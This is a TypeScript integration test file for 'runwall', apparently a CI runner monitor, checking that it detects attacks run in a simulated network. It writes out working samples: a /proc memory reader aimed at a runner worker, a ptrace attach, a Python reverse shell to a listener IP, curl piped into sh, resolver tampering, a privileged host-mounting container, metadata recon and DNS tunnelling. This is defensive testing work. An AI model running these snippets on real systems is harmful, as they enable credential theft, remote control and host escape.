// Detections on real behaviour under `runwall exec` in the test internet: a stand-in runner
// worker whose memory is read, a ptrace attach, a reverse shell to a listener in the internet,
// sudo, `curl | sh`, a binary run from /tmp, firewall tools, a privileged container, resolver
// tampering, metadata recon (blocked at the host side: nothing reaches 169.254.x), and, in audit
// mode, IP-echo and metadata names and a DNS tunnelling burst. An ordinary build raises none.
import { spawn, type ChildProcess } from 'node:child_process';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DetectionEvent, RunReport } from '../../../src/protocol/index.js';
import { createInternet, type Internet } from '../../helpers/internet.js';
import { eventsOf, execInHost, type ExecResult } from '../../helpers/runwall-cli.js';

const LISTENER = '198.51.100.77';
const LISTENER_PORT = 4444;

function detections(report: RunReport | null, id?: string): DetectionEvent[] {
  expect(report).not.toBeNull();
  return eventsOf(report!, 'detection').filter((d) => id === undefined || d.id === id);
}

const MEM_READ = `import sys
pid = int(sys.argv[1])
with open(f"/proc/{pid}/maps") as maps:
    first = maps.readline().split()[0].split("-")
with open(f"/proc/{pid}/mem", "rb") as mem:
    mem.seek(int(first[0], 16))
    print("read", len(mem.read(16)))`;

const PTRACE = `import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
pid = int(sys.argv[1])
print("attach", libc.ptrace(16, pid, 0, 0))
os.waitpid(pid, 0)
libc.ptrace(17, pid, 0, 0)`;

const REVERSE_SHELL = `import os, socket
s = socket.create_connection(("${LISTENER}", ${LISTENER_PORT}))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])`;

describe('detections under runwall exec (block mode)', () => {
  let internet: Internet;
  let listener: ChildProcess;
  let result: ExecResult;
  const work = `/srv/runwall-detect-${process.pid}`;

  beforeAll(async () => {
    internet = await createInternet();
    // The attacker's end of the reverse shell: it sends one command, then exit.
    listener = spawn('nsenter', [`--net=/run/netns/${internet.inetNs}`, 'socat', '-T', '20', `TCP-LISTEN:${LISTENER_PORT},bind=${LISTENER},reuseaddr`, 'SYSTEM:sleep 1.5; echo echo pwned; echo exit; sleep 2'], { stdio: 'ignore' });
    mkdirSync(work, { recursive: true });
    writeFileSync(`${work}/mem-read.py`, MEM_READ);
    writeFileSync(`${work}/ptrace.py`, PTRACE);
    writeFileSync(`${work}/reverse-shell.py`, REVERSE_SHELL);
    await sleep(300);
    result = await execInHost(
      internet,
      ['--allowed-endpoints', `allowed.test:443 ${LISTENER}:${LISTENER_PORT}`],
      `cd ${work}
       bash -c "exec -a Runner.Worker sleep 30" & worker=$!
       sleep 1
       python3 mem-read.py $worker
       sleep 30 & traced=$!
       python3 ptrace.py $traced
       kill $traced $worker
       python3 reverse-shell.py
       sudo -n true; echo "sudo $?"
       # A slow download (as a large installer is) keeps curl at the head of the pipe while sh reads it.
       curl -s -m 8 --limit-rate 20 http://allowed.test:443/install.sh | sh; echo "piped $?"
       # The pipe's writer execs curl only after sh has started (the race a loaded machine makes).
       { sleep 0.7; exec curl -s -m 8 --limit-rate 20 http://allowed.test:443/install.sh?late; } | sh; echo "late piped $?"
       cp /bin/true /tmp/runwall-dropped-$$ && /tmp/runwall-dropped-$$; rm -f /tmp/runwall-dropped-$$
       nft list ruleset >/dev/null 2>&1; iptables -L >/dev/null 2>&1
       docker run --rm --privileged -v /:/host alpine true >/dev/null 2>&1
       nsenter -t 1 -m -n true >/dev/null 2>&1
       echo "nameserver 203.0.113.9" >> /etc/resolv.conf
       curl -s -m 2 http://169.254.169.254/latest/meta-data/ >/dev/null; echo "imds $?"
       sleep 2`,
      { timeoutMs: 90_000 },
    );
  }, 120_000);

  afterAll(async () => {
    listener?.kill('SIGKILL');
    rmSync(work, { recursive: true, force: true });
    await internet?.destroy();
  });

  it('the run completed with a report', () => {
    expect(result.report, result.stderr).not.toBeNull();
  });

  it("reading the stand-in runner worker's memory through /proc/PID/mem is critical, naming reader and target", () => {
    const [read] = detections(result.report, 'process-memory-read').filter((d) => d.evidence['method'] === 'proc-mem');
    expect(read, JSON.stringify(detections(result.report))).toBeDefined();
    expect(read).toMatchObject({ severity: 'critical', process: { exe: expect.stringMatching(/python/) } });
    expect(read?.evidence).toMatchObject({ runnerWorker: true, target: { argv: expect.arrayContaining(['Runner.Worker']) } });
  });

  it('a ptrace attach is a memory read', () => {
    const attach = detections(result.report, 'process-memory-read').find((d) => d.evidence['method'] === 'ptrace-attach');
    expect(attach).toMatchObject({ severity: 'high', evidence: { succeeded: true } });
  });

  it('a shell driven over a connection to the internet is a reverse shell naming the far end', () => {
    const [shell] = detections(result.report, 'reverse-shell');
    expect(shell).toMatchObject({ severity: 'critical', evidence: { remote: `${LISTENER}:${LISTENER_PORT}` }, process: { exe: expect.stringMatching(/sh$/) } });
  });

  it('sudo, a binary from /tmp and a download piped into sh are reported', () => {
    expect(detections(result.report, 'sudo-used')[0]?.process?.exe).toBe('/usr/bin/sudo');
    expect(detections(result.report, 'exec-from-temp')[0]?.evidence['exe']).toMatch(/^\/tmp\/runwall-dropped-/);
    const piped = detections(result.report, 'remote-script-piped').find((d) => d.evidence['url'] === 'http://allowed.test:443/install.sh');
    expect(piped?.evidence, JSON.stringify(detections(result.report, 'remote-script-piped'))).toMatchObject({ downloader: { exe: expect.stringMatching(/curl$/) } });
  });

  it('a download piped into sh is reported when curl execs after sh has started', () => {
    const late = detections(result.report, 'remote-script-piped').find((d) => d.evidence['url'] === 'http://allowed.test:443/install.sh?late');
    expect(late?.evidence, JSON.stringify(detections(result.report, 'remote-script-piped'))).toMatchObject({ downloader: { exe: expect.stringMatching(/curl$/) } });
  });

  it('firewall tools and a write to the resolver configuration are guard tampering', () => {
    const tamper = detections(result.report, 'guard-tamper');
    expect(tamper.map((d) => d.evidence['what'])).toEqual(expect.arrayContaining(['firewall-read', 'guarded-file']));
    expect(tamper.filter((d) => d.evidence['what'] === 'firewall-read').map((d) => d.process?.exe)).toEqual(expect.arrayContaining([expect.stringMatching(/nft$/), expect.stringMatching(/xtables|iptables/)]));
    expect(tamper.find((d) => d.evidence['what'] === 'guarded-file')?.evidence['path']).toBe('/etc/resolv.conf');
  });

  it('a privileged, host-mounting container and nsenter into PID 1 are reported', () => {
    expect(detections(result.report, 'privileged-container')[0]?.evidence['flags']).toEqual(['--privileged', '-v /:/host']);
    expect(detections(result.report, 'host-escape')[0]?.evidence['via']).toBe('nsenter');
  });

  it('the blocked attempt on the metadata address is recon, and never left the machine', async () => {
    expect(result.stdout).toMatch(/imds [1-9]/);
    const recon = detections(result.report, 'recon-metadata');
    expect(recon[0]?.evidence).toMatchObject({ destination: '169.254.169.254', verdict: 'blocked' });
    expect((await internet.hits()).filter((h) => h.local.startsWith('169.254.'))).toEqual([]);
  });

  it('every detection says what to do', () => {
    for (const d of detections(result.report)) expect(d.remedy.length).toBeGreaterThan(20);
  });
});

describe('recon and DNS tunnelling in audit mode', () => {
  let internet: Internet;
  afterAll(async () => {
    await internet?.destroy();
  });

  it('IP-echo and metadata names are recon, and a burst of 200 random subdomains is tunnelling', async () => {
    internet = await createInternet();
    const result = await execInHost(
      internet,
      ['--egress-policy', 'audit'],
      `dig +short +tries=1 +time=2 api.ipify.org >/dev/null
       dig +short +tries=1 +time=2 metadata.google.internal >/dev/null
       i=0
       while [ $i -lt 200 ]; do
         label=$(tr -dc a-z0-9 </dev/urandom | head -c 40)
         dig +short +tries=1 +time=1 "$label.t.tunnel.test" >/dev/null
         i=$((i+1))
       done`,
      { timeoutMs: 120_000 },
    );
    expect(detections(result.report, 'recon-ip-echo')[0]?.evidence).toMatchObject({ name: 'api.ipify.org', verdict: 'audit' });
    expect(detections(result.report, 'recon-metadata')[0]?.evidence).toMatchObject({ name: 'metadata.google.internal' });
    const tunnel = detections(result.report, 'dns-tunnelling');
    expect(tunnel).toHaveLength(1);
    expect(tunnel[0]?.evidence).toMatchObject({ zone: 'tunnel.test' });
  }, 150_000);
});

describe('ordinary builds', () => {
  let internet: Internet;
  const work = `/srv/runwall-build-${process.pid}`;
  afterAll(async () => {
    rmSync(work, { recursive: true, force: true });
    await internet?.destroy();
  });

  it('git, make with cc, and npm ci of a local package raise no detection', async () => {
    internet = await createInternet();
    mkdirSync(`${work}/pkg`, { recursive: true });
    writeFileSync(`${work}/hello.c`, '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n');
    writeFileSync(`${work}/Makefile`, 'hello: hello.c\n\tcc -O2 -o hello hello.c\n');
    writeFileSync(`${work}/pkg/package.json`, JSON.stringify({ name: 'local-pkg', version: '1.0.0', scripts: { install: 'node -e "console.log(1)"' } }));
    writeFileSync(`${work}/pkg/package-lock.json`, JSON.stringify({ name: 'local-pkg', version: '1.0.0', lockfileVersion: 3, requires: true, packages: { '': { name: 'local-pkg', version: '1.0.0', hasInstallScript: true } } }));
    const result = await execInHost(
      internet,
      ['--allowed-endpoints', 'allowed.test:443'],
      `set -e
       cd ${work}
       git init -q . && git add hello.c Makefile && git -c user.email=ci@example.com -c user.name=ci commit -qm build
       make -s && ./hello
       cd pkg && NPM_CONFIG_UPDATE_NOTIFIER=false npm ci --no-audit --no-fund --offline >/dev/null 2>&1
       echo built`,
      { timeoutMs: 90_000 },
    );
    expect(result.stdout, result.stderr).toMatch(/hello\n[\s\S]*built/);
    expect(detections(result.report)).toEqual([]);
    expect(eventsOf(result.report!, 'agent').filter((e) => e.message.startsWith('detect:'))).toEqual([]);
  }, 120_000);
});
